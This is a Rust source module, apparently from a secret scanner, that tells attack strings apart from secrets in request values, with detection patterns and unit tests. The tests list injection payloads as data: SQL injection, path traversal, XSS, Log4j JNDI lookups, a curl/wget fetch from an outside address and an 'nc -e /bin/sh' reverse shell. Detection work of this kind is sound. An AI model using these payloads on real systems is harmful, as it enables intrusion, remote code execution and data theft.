//! What attackers write where a secret is expected: commands, statements, links. It is evidence, whatever the name before it says, unless
//! a secret may stand in it.

use std::borrow::Cow;
use std::net::IpAddr;
use std::sync::LazyLock;

use super::{spans, value};
use crate::ascii::{Groups, Pattern};
use crate::decode::hex_digit;
use crate::text::is_listed;

/// How much of a value is looked at, in bytes.
const LONGEST: usize = 2048;
/// What stands before an attack is a secret if it is as long and a machine made it.
const LEAST_SECRET: usize = 6;
/// Letters and digits in a row that may be a secret of their own, wherever they stand; mixed throughout, fewer are enough.
const LEAST_KEY: usize = 12;
const LEAST_MIXED: usize = 8;
/// What looks like one and is a word of attacks.
const WORDS: &str = "base64-encode base64-decode";

/// What a shell is asked to run, in lower case.
const COMMANDS: &str = "\
    bash sh dash zsh ksh cmd powershell pwsh cat type wget curl nc ncat netcat id whoami uname ping nslookup dig ls dir sleep \
    perl python python2 python3 php ruby chmod rm cp mv tftp ftp certutil bitsadmin mshta rundll32 regsvr32 busybox net ipconfig \
    ifconfig netstat ps kill socat telnet ssh scp base64 openssl awk find grep head tail env printenv sudo su exec eval";
/// What PowerShell is asked to run.
const ALIASES: &str = "iex iwr irm icm saps start gc gci gwmi";
/// How its own commands begin that fetch or run something: `Start-Process`.
const VERBS: &str = "start invoke get new import";
/// How commands begin that only say what they are given.
const SPEAKERS: &str = "echo printf print";

// A sign and a word each; lower case.
static ATTACK: LazyLock<Pattern> = LazyLock::new(|| {
    let forms = [
        r#"\$\{(?:[a-z]{2,12}|::|\$\{)[^\s"]{0,64}?:"#,
        r"(?:\$\(|`)([a-z0-9]{2,12})(?:[ /\t]|\$\{ifs)",
        r"\.\.[/\\](?:\.\.[/\\]|etc/|proc/|windows[/\\]|winnt[/\\]|boot\.ini|web-inf)",
        r"<(?:script|img|svg|iframe|body|object|embed|\?php|\?xml|!doctype|!entity)\b",
        r"\bunion(?:\s|/\*\*/|/\*!)+(?:all\s+)?(?:distinct\s+)?select\b",
        r#"['"();]\s*select\b[^\n]{1,64}?(?:\bfrom\b|\()"#,
        r#"(?:['"\s)]|\*/)(?:or|and)(?:\s|/\*\*/)+(?:\d+\s*[=<>]|['"]|(?:not\s+)?(?:exists|sleep|select)\s*\(|select\b[^\n]{1,64}?\bfrom\b)"#,
        r#"['");]\s*(?:or|and|\|\||&&)['"\s]+\w+['"]?\s*(?:=|like\b)"#,
        r"\b(?:pg_sleep|sleep|benchmark|extractvalue|updatexml|load_file)\s?\(",
        r#"\bwaitfor\s+delay\b|\bxp_cmdshell\b|\binformation_schema\b|['";]\s*drop\s+table\b|['")]\s*order\s+by\s+\d"#,
    ];
    Pattern::new(&forms.join("|"))
});
static JOINED: LazyLock<Pattern> =
    LazyLock::new(|| Pattern::new(r"[;|&\n]\s*(?:/(?:usr/)?s?bin/)?([a-z0-9]{2,12})(?:[ \t/;|&]|$)"));
static LINK: LazyLock<Pattern> = LazyLock::new(|| {
    Pattern::new(r"^(?:https?|ftp|ldaps?|rmi|dns|file|gopher|dict|php|data|phar|jar|expect|smb)://[a-z0-9\[]")
});

/// Whether a header or cookie begins with what Log4j or a shell looks up: `${jndi:…}`, `$(curl …)`.
pub(super) fn is_lookup(value: &str) -> bool {
    (value.starts_with("${") || value.starts_with("$(")) && is_attack(value)
}

/// Whether the value of a parameter is an attack, as it stands or once its percent signs are decoded. With a secret in it, it is none.
pub(super) fn is_attack(value: &str) -> bool {
    if !value.contains(['$', '`', '.', '<', '%', '\'', '"', '+', ' ', '\t', ';', '|', ':', '(']) {
        return false;
    }
    let value = &value[..spans::floor(value, LONGEST)];
    let plain = decoded(value, b' ');
    let lower = plain.to_ascii_lowercase();
    let Some(at) = begins(&lower) else {
        return false;
    };
    let before = plain[..at].trim_end_matches(|c: char| !c.is_alphanumeric());
    // In a link a plus is one.
    let holds_secret = holds_key(&plain) || LINK.is_match(&lower) && holds_key(&decoded(value, b'+'));
    !holds_secret && !value::looks_made(before, LEAST_SECRET)
}

fn holds_key(plain: &str) -> bool {
    plain
        .split(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '-' | '_' | '+'))
        .any(|part| {
            let has = |test: fn(&u8) -> bool| part.as_bytes().iter().any(test);
            let mixed = has(u8::is_ascii_digit) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_uppercase);
            (value::looks_made(part, LEAST_KEY) || mixed && part.len() >= LEAST_MIXED)
                && !is_listed(WORDS, &part.to_ascii_lowercase())
        })
}

fn begins(plain: &str) -> Option<usize> {
    let place = |groups: &Groups<'_>| groups.get(0).map(|whole| whole.start());
    // `$(echo …)` says it, `$(curl …)` gets it.
    let is_run = |found: &Groups<'_>| found.get(1).is_none_or(|name| runs(&plain[name.start()..]));
    if let Some(found) = ATTACK.captures_iter(plain).find(is_run) {
        return place(&found);
    }
    let runs = |found: &Groups<'_>| {
        found.get(1).is_some_and(|name| {
            // `7|id|X`: parts of one value.
            let is_part = plain[..name.start()].ends_with('|')
                && plain[name.end()..]
                    .strip_prefix('|')
                    .is_some_and(|behind| !behind.is_empty());
            is_listed(COMMANDS, name.as_str()) && !is_part
        })
    };
    if let Some(found) = JOINED.captures_iter(plain).find(runs) {
        return place(&found);
    }
    is_link(plain).then_some(0)
}

// A link without a place for a secret.
fn is_link(plain: &str) -> bool {
    LINK.is_match(plain) && !plain.contains(['@', '?', '#'])
}

// Encoded twice is decoded twice.
fn decoded(value: &str, plus: u8) -> Cow<'_, str> {
    if !value.contains(['%', '+']) {
        return Cow::Borrowed(value);
    }
    let mut text = value.to_owned();
    for _ in 0..2 {
        let bytes = text.as_bytes();
        let mut plain = Vec::with_capacity(bytes.len());
        let mut at = 0;
        while let Some(&byte) = bytes.get(at) {
            let code = (byte == b'%')
                .then(|| Some(hex_digit(*bytes.get(at + 1)?)? << 4 | hex_digit(*bytes.get(at + 2)?)?))
                .flatten();
            plain.push(code.unwrap_or(if byte == b'+' { plus } else { byte }));
            at += if code.is_some() { 3 } else { 1 };
        }
        text = String::from_utf8_lossy(&plain).into_owned();
    }
    Cow::Owned(text)
}

/// Whether what stands between two backticks, or behind one, is a command whose output is the value, and not the value itself.
pub(super) fn runs(text: &str) -> bool {
    let text = text.trim_start().trim_start_matches('`');
    let (first, rest) = text.split_once([' ', '+']).unwrap_or((text, ""));
    let name = first.rsplit('/').next().unwrap_or(first);
    let rest = rest.replace('+', " ");
    // `cat X`: the word may be the secret.
    let holds_secret = rest.split_whitespace().map(bare).any(|word| {
        !word.starts_with('-') && !word.contains(['/', '\\', '.', ':']) && value::looks_made(word, LEAST_SECRET)
    });
    !rest.is_empty() && !holds_secret && !is_listed(SPEAKERS, name) && (is_listed(COMMANDS, name) || goes_on(&rest))
}

fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '(', ')', '`', ','])
}

/// Whether one of these words may be a secret, and is no switch, path, link or address.
pub(super) fn names_what_looks_made(words: &str) -> bool {
    words
        .split_whitespace()
        .any(|word| value::looks_made(bare(word), LEAST_SECRET) && !goes_on(word))
}

/// Whether these words are those of a command: one of them is a switch, a path, a link, an address.
fn goes_on(words: &str) -> bool {
    words.split_whitespace().any(|word| {
        let bare = bare(word);
        let switch = bare.trim_start_matches('-');
        let is_switch =
            (1..=2).contains(&(bare.len() - switch.len())) && switch.starts_with(|c: char| c.is_ascii_alphabetic());
        let is_path = ["./", "../", "~/", "\\\\"].iter().any(|start| bare.starts_with(start))
            || bare.starts_with('/') && bare[1..].starts_with(|c: char| c.is_ascii_alphanumeric())
            || value::begins_with_drive(bare);
        let host = bare.rsplit_once(':').map_or(bare, |(host, _)| host);
        is_switch || is_path || bare.contains("://") || host.parse::<IpAddr>().is_ok()
    })
}

/// Whether these words are a command that a variable is set for: a program with what a command goes on with, or the path of one.
pub(super) fn is_command(words: &str) -> bool {
    let (first, rest) = words.split_once(' ').unwrap_or((words, ""));
    let is_path = ["./", "../", "~/"].iter().any(|start| first.starts_with(start))
        || first.strip_prefix('/').is_some_and(|path| path.contains('/'));
    is_path || names_program(first) && goes_on(rest)
}

/// Whether a word names a program, or what PowerShell calls one: `Start-Process`, `iex`.
pub(super) fn is_program(word: &str) -> bool {
    names_program(word)
        || word.split_once('-').is_some_and(|(verb, noun)| {
            is_listed(VERBS, &verb.to_ascii_lowercase())
                && noun.len() >= 2
                && noun.bytes().all(|b| b.is_ascii_alphabetic())
        })
}

fn names_program(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower);
    is_listed(COMMANDS, lower) || is_listed(ALIASES, lower)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_is_known_by_a_sign_and_a_word() {
        for attack in [
            "1%20UNION%20SELECT%20user%2Cpass%20FROM%20users",
            "1+union+all+select+null,version()",
            "1%27%20OR%20%271%27%3D%271",
            "' or 1=1-- -",
            "x' AND SLEEP(5)--",
            "1;waitfor delay '0:0:5'",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc/passwd",
            "..%5c..%5cwindows%5cwin.ini",
            "%24%28curl%20http%3A%2F%2F203.0.113.9%2Fa%29",
            "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D",
            "${${lower:j}ndi:ldap://203.0.113.9/a}",
            "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
            "\"><img src=x onerror=alert(1)>",
            "a%3Bcat%20/etc/passwd",
            "x|id",
            "%60wget%20http://203.0.113.9/x%60",
            "http://203.0.113.9/shell.txt",
            "php://filter/convert.base64-encode/resource=index",
        ] {
            assert!(is_attack(attack), "{attack}");
        }
        for secret in [
            "hunter2",
            "Din%20go88%21",
            "two or three words",
            "correct horse battery staple",
            "union-select-9X",
            "$ecret!9",
            "Pa$$(word9",
            "a..b/c..d",
            "x<3you!9",
            "C0nnStr!ng;Encrypt",
            "abc;def|ghi",
            "Pw9;idea",
            "Zm9v+YmFy/MTIz==",
            "https://hooks.example/x/a8Fk29dkQ03mZpL1",
            "https://h/x?sig=abc",
            "postgres://u:p@h/db",
            "wR7!`x",
            "Quot3dPw9xY7%3Bcat%20/etc/passwd",
            "7|id|a8Fk29dkQ03mZpL1",
            "lang%7Cid%7Cword",
            "Wint3r%3Bps",
            "../../Ab3dEfGh9kLmN0pQ",
            "eat+and+sleep+well+99",
            "https://app.example/reset/Ab3dEfGh9k",
            "https://app.example/r/Ab3d+EfGh9k+LmN9/opQ8rSt",
            "${env:X:-a8Fk29dkQ03mZpL1}",
        ] {
            assert!(!is_attack(secret), "{secret}");
        }
    }

    #[test]
    fn a_command_goes_on_with_switches_paths_links_and_addresses() {
        for words in [
            "nc 203.0.113.9 443",
            "-PassThru",
            "./deploy",
            "x C:\\a\\b.exe",
            "(iwr http://h/x)",
            "sh /tmp/x",
        ] {
            assert!(goes_on(words), "{words}");
        }
        for words in ["horse battery", "and/or / maybe", "- or -- that", "9 lives"] {
            assert!(!goes_on(words), "{words}");
        }
        assert!(runs("curl http://203.0.113.9/x"));
        assert!(runs("nc -e /bin/sh 203.0.113.9 443"));
        assert!(!runs("hunter2"));
        assert!(!runs("two words"));
        assert!(!runs("echo Dingo88 | x"));
        assert!(!runs("cat Dingo88xY"));
    }
}
